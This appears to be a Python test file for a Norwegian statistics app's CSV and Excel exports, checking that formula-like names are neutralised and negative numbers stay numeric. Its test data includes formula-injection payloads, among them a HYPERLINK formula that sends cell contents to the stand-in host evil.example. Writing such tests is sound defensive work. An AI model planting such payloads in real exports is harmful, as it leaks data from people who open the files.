"""No CSV or Excel file the statistics, follow-up and indicator exports write can run a formula.

A name or label starting with «=», «+», «-» or «@» leaves with an apostrophe
in CSV and as a text cell in Excel; numbers, negative ones too, stay numbers.
"""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import date

import pytest
from django.core.management import call_command
from openpyxl import load_workbook
from report_fixtures import MARCH, build_reported

from malekort.areas.models import Region
from malekort.followup.export import write_csv as write_followup_csv
from malekort.followup.selectors import reporting_table
from malekort.scorecard.exports import write_csv as write_indicator_csv
from malekort.statistics.reports.csv_export import write_csv as write_report_csv
from malekort.statistics.reports.excel import write_xlsx as write_report_xlsx
from malekort.statistics.reports.tables import build_report, scope_place

HOSTILE = ('=HYPERLINK("https://evil.example/?d="&A1,"Klikk")', "+1", "-2+3", "@SUM(A1)")
BUSKERUD_AREAS = ("3320", "3322", "3324", "3326")


@pytest.fixture
def hostile_names(world):
    """The reported scenario with four Buskerud kommuner renamed to formulas."""
    build_reported(world)
    for code, name in zip(BUSKERUD_AREAS, HOSTILE, strict=True):
        Region.objects.filter(code=code).update(name=name)


def test_the_report_csv_neutralises_names_and_keeps_numbers(hostile_names):
    out = io.StringIO()
    write_report_csv(build_report(scope_place("33"), MARCH), out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    names = {row["region"]: row["region_name"] for row in rows}
    assert [names[code] for code in BUSKERUD_AREAS] == ["'" + name for name in HOSTILE]
    known = {row["region"]: row["value"] for row in rows if row["contents_code"] == "SH_MOTTAKERE.known_sum"}
    assert known["3320"] == "10" and known["33"] == "100"
    # A change may be negative: it stays a number (3320 went from 8 to 10, 3324 from 36 to 40 …).
    differences = [row["value"] for row in rows if row["contents_code"].endswith(".difference") and row["value"]]
    assert all(not value.startswith("'") for value in differences)


def test_the_report_workbook_has_labels_and_definitions_as_text_cells(hostile_names):
    report = build_report(scope_place("33"), MARCH)
    # An own indicator's name or code is free text; put formulas where a label and a definition start.
    first = report.tables[0]
    rows = tuple(dataclasses.replace(row, label=name) for row, name in zip(first.rows, HOSTILE, strict=False))
    report = dataclasses.replace(
        report,
        tables=(dataclasses.replace(first, rows=rows + first.rows[len(rows):]), *report.tables[1:]),
        definitions=tuple(dataclasses.replace(d, code="=1+1") for d in report.definitions),
    )
    out = io.BytesIO()
    write_report_xlsx(report, out)
    workbook = load_workbook(io.BytesIO(out.getvalue()))
    labels = [row[1] for row in workbook[first.key].iter_rows(min_row=2)][: len(rows)]
    assert [(cell.value, cell.data_type) for cell in labels] == [(row.label, "s") for row in rows]
    formulas = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
    areas = [row[1].value for row in workbook["Områder"].iter_rows(min_row=2)]
    assert any(HOSTILE[0] in label for label in areas)


def test_the_statistics_command_neutralises_a_region_code(hostile_names, monkeypatch):
    from malekort.statistics.management.commands import statistics

    real = statistics.figure_summaries

    def renamed(regions, figure, period):  # type: ignore[no-untyped-def]
        return [dataclasses.replace(row, region="=1+1") for row in real(regions, figure, period)]

    monkeypatch.setattr(statistics, "figure_summaries", renamed)
    out = io.StringIO()
    call_command("statistics", "--code", "SH_MOTTAKERE", "--level", "riket", "--period", "2025-03", stdout=out)
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["area"] == "'=1+1"
    assert row["known_sum"] == "1012"


def test_the_followup_csv_neutralises_names(hostile_names):
    rows = [
        dataclasses.replace(row, name=name)
        for row, name in zip(reporting_table(date(2025, 5, 20))[:4], HOSTILE, strict=True)
    ]
    out = io.StringIO()
    write_followup_csv(rows, out)
    written = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [row["name"] for row in written] == ["'" + name for name in HOSTILE]
    assert all(row["expected"].isdigit() for row in written)


def test_the_indicator_csv_neutralises_texts_and_keeps_negative_numbers():
    rows = [
        (code, "0301", "2025-03", -2.5, 10.0, -0.25, "", "grønn", 0.5)
        for code in HOSTILE
    ]
    out = io.StringIO()
    write_indicator_csv(rows, out)
    written = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [row["indicator"] for row in written] == ["'" + code for code in HOSTILE]
    assert {(row["numerator"], row["denominator"], row["value"]) for row in written} == {("-2.5", "10", "-0.25")}
